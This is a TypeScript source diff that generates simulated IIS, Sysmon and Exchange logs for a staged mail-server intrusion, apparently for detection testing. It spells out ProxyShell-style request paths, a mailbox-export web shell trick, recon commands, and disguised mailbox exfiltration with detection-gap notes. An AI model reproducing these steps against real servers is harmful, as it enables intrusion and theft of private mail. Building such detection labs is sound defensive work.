@@ -1,0 +1,221 @@
+import { DAY, MINUTE, SECOND, utc } from '../calendar.ts';
+import type { Ministry } from '../ministry.ts';
+import { cmdlet, fileMade, PROGRAMS, program } from '../records/sysmon.ts';
+import { iisLine, type Request } from '../records/text.ts';
+import type { Act } from '../truth.ts';
+import { DOMAIN, EXITS, HOSTS } from '../world.ts';
+import { typed } from './shell.ts';
+
+/** The mail server is taken over through its own front end, and a mailbox is exported. */
+const PHASE = 'server';
+const AGENT = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:91.0) Gecko/20100101 Firefox/91.0';
+const SHELL_PAGE = '/aspnet_client/system_web/errorfe.aspx';
+const SHELL_FILE = `C:\\inetpub\\wwwroot${SHELL_PAGE.replaceAll('/', '\\')}`;
+const START = utc('2022-09-14 01:05');
+
+export const RAR = program('C:\\ProgramData\\r.exe', 'Command line RAR', 'Alexander Roshal', '5.91.0', 'rar.exe');
+
+export function server(m: Ministry): void {
+  confusedPaths(m);
+  exportsToPage(m);
+  exploration(m);
+  exportsMailbox(m);
+}
+
+function request(
+  { logs }: Ministry,
+  ms: number,
+  r: Omit<Request, 'from' | 'agent'>,
+  act: Act,
+  from: string = EXITS.exploit,
+): void {
+  logs.iis.add(ms, iisLine(ms, { ...r, from, agent: AGENT }), act);
+}
+
+const query = (path: string) => `@${EVIL}/${path}&Email=autodiscover/autodiscover.json%3F@${EVIL}`;
+const EVIL = 'qz7.example';
+
+function confusedPaths(m: Ministry): void {
+  const stem = '/autodiscover/autodiscover.json';
+  const act: Act = {
+    phase: PHASE,
+    what: 'The autodiscover path leads into the server’s own back end (ProxyShell)',
+    technique: 'T1190',
+    rules: [],
+    invisible: 'no own rule reads these addresses; the public rule does',
+    sigma: ['992be1eb-e5da-437e-9a54-6d13b57bb4d8'],
+  };
+  const tries: [after: number, path: string, status: number][] = [
+    [0, 'mapi/nspi/?', 200],
+    [6, 'EWS/exchange.asmx?', 200],
+    [19, 'powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBdtZWE&', 200],
+    [24, 'powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBdtZWE&', 200],
+  ];
+  for (const [after, path, status] of tries) {
+    request(m, START + after * SECOND, { method: 'POST', stem, query: query(path), status, took: 312 }, act);
+  }
+  request(
+    m,
+    START - 40 * SECOND,
+    { method: 'GET', stem, query: query('owa/?'), status: 401, took: 41 },
+    {
+      ...act,
+      what: 'The first try at the autodiscover path is refused',
+      sigma: ['23eee45e-933b-49f9-ae1b-df706d2d52ef'],
+    },
+  );
+}
+
+function management(m: Ministry, ms: number, name: string, parameters: string, act: Omit<Act, 'phase'>): void {
+  const admin = `${DOMAIN}/Users/Administrator`;
+  const sid = `${m.people[0]?.sid.replace(/-\d+$/, '')}-500`;
+  const activity = m.random(`cmdlet ${ms}`).guid();
+  m.logs.exManagement.add(ms, cmdlet(HOSTS.exchange, admin, sid, name, parameters, activity), { phase: PHASE, ...act });
+}
+
+const EXPORTED = 'exchange/export_requested.yml';
+const REMOVED = 'exchange/export_removed.yml';
+const BOTH = 'exchange/export_and_removal.yml';
+
+function exportsToPage(m: Ministry): void {
+  const at = START + 2 * MINUTE;
+  management(m, at, 'New-ManagementRoleAssignment', '-Role "Mailbox Import Export" -User "Administrator"', {
+    what: 'The right to export mailboxes is given',
+    technique: 'T1098.002',
+    rules: [],
+    invisible: 'no own rule; the public rule does',
+    sigma: ['516376b4-05cd-4122-bae0-ad7641c38d48'],
+  });
+  management(
+    m,
+    at + 20 * SECOND,
+    'New-MailboxExportRequest',
+    `-Mailbox "h.brandt@${DOMAIN}" -IncludeFolders @("#Drafts#") -ContentFilter "Subject -eq 'w2f9'" -ExcludeDumpster "True" -FilePath "\\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\system_web\\errorfe.aspx"`,
+    {
+      what: 'A draft is exported as a page of the web server: the web shell',
+      technique: 'T1505.003',
+      rules: [EXPORTED, BOTH],
+      sigma: ['516376b4-05cd-4122-bae0-ad7641c38d48'],
+    },
+  );
+  management(
+    m,
+    at + 9 * MINUTE,
+    'Remove-MailboxExportRequest',
+    '-Identity "h.brandt\\MailboxExport" -Confirm "False"',
+    {
+      what: 'The export request is removed again',
+      technique: 'T1070',
+      rules: [REMOVED, BOTH],
+      sigma: ['09570ae5-889e-43ea-aac0-0e1221fb3d95'],
+    },
+  );
+  const image = 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\MSExchangeMailboxReplication.exe';
+  const ms = at + 50 * SECOND;
+  m.logs.exSysmon.add(ms, fileMade(ms, HOSTS.exchange, image, 7720, 'NT AUTHORITY\\SYSTEM', SHELL_FILE), {
+    phase: PHASE,
+    what: 'The web shell is written below aspnet_client',
+    technique: 'T1505.003',
+    rules: [],
+    invisible: 'no own rule reads files below the web root; public rules do',
+    sigma: ['7280c9f3-a5af-45d0-916a-bc01cb4151c9'],
+  });
+}
+
+function shellRequest(m: Ministry, ms: number, from: string = EXITS.shell): void {
+  request(
+    m,
+    ms,
+    { method: 'POST', stem: SHELL_PAGE, status: 200, took: 640 },
+    {
+      phase: PHASE,
+      what: 'A command is sent to the web shell',
+      technique: 'T1505.003',
+      rules: [],
+      invisible: 'the command travels in the body, which IIS does not log; no own rule reads pages below aspnet_client',
+    },
+    from,
+  );
+}
+
+function exploration(m: Ministry): void {
+  const commands: [minutes: number, Parameters<typeof typed>[2]][] = [
+    [12, { ...common('T1033'), program: PROGRAMS.whoami, command: 'whoami', what: 'whoami' }],
+    [
+      14,
+      {
+        ...common('T1482'),
+        program: PROGRAMS.nltest,
+        command: 'nltest /dclist:mea.example',
+        what: 'domain controllers listed',
+      },
+    ],
+    [
+      17,
+      {
+        ...common('T1069.002'),
+        ...{
+          program: PROGRAMS.net,
+          command: 'net group "Domain Admins" /domain',
+          what: 'domain administrators listed',
+        },
+      },
+    ],
+  ];
+  for (const [minutes, command] of commands) {
+    const ms = START + minutes * MINUTE;
+    shellRequest(m, ms - SECOND, EXITS.exploit);
+    typed(m, ms, command);
+  }
+}
+
+function common(technique: string) {
+  return { phase: PHASE, technique } as const;
+}
+
+/** Next day, before dawn: a whole mailbox, packed and fetched. */
+function exportsMailbox(m: Ministry): void {
+  const start = START + DAY - 25 * MINUTE;
+  const file = '\\\\localhost\\c$\\ProgramData\\m1.pst';
+  management(m, start, 'New-MailboxExportRequest', `-Mailbox "i.castor@${DOMAIN}" -FilePath "${file}"`, {
+    what: 'The mailbox of i.castor is exported whole',
+    technique: 'T1114.002',
+    rules: [EXPORTED, BOTH],
+  });
+  management(
+    m,
+    start + 70 * MINUTE,
+    'Remove-MailboxExportRequest',
+    '-Identity "i.castor\\MailboxExport" -Confirm "False"',
+    {
+      what: 'This export request is removed too',
+      technique: 'T1070',
+      rules: [REMOVED, BOTH],
+      sigma: ['09570ae5-889e-43ea-aac0-0e1221fb3d95'],
+    },
+  );
+  const pack = start + 48 * MINUTE;
+  shellRequest(m, pack - SECOND);
+  typed(m, pack, {
+    ...common('T1560.001'),
+    program: RAR,
+    command: `${RAR.image} a -hpQ7 -v40m C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\i.png C:\\ProgramData\\m1.pst`,
+    what: 'The mailbox is packed under a picture’s name by a renamed rar.exe',
+    invisible: 'the own rule for archivers goes by the file’s name, and this one was renamed to r.exe',
+  });
+  for (let part = 1; part <= 4; part++) {
+    request(
+      m,
+      pack + (3 + part * 2) * MINUTE,
+      { method: 'GET', stem: `/aspnet_client/system_web/i.part${part}.png`, status: 200, took: 71_000 + part * 913 },
+      {
+        phase: PHASE,
+        what: 'A part of the packed mailbox is fetched as a picture',
+        technique: 'T1041',
+        rules: [],
+        invisible: 'a picture of the web server; only its long duration is odd',
+      },
+      EXITS.shell,
+    );
+  }
+}
